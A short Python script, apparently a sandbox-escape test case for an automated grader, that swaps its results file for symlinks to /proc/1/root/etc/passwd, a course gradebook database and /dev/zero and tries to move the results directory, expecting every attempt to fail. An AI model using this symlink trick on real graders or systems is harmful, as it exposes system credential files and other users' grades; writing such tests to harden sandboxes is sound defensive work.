# puts links where files are read, to have others' files read
# ends: done
# prints: []
import os

results = os.environ["BUUCHINH_RESULTS"]
done = []
for target in ("/proc/1/root/etc/passwd", "{course}/gradebook.db", "/dev/zero"):
    try:
        os.remove(results)
        os.symlink(target, results)
        done.append(target)
    except OSError:
        pass
    try:
        os.rename(os.path.dirname(results), "/elsewhere")
        done.append("moved")
    except OSError:
        pass
print(done)
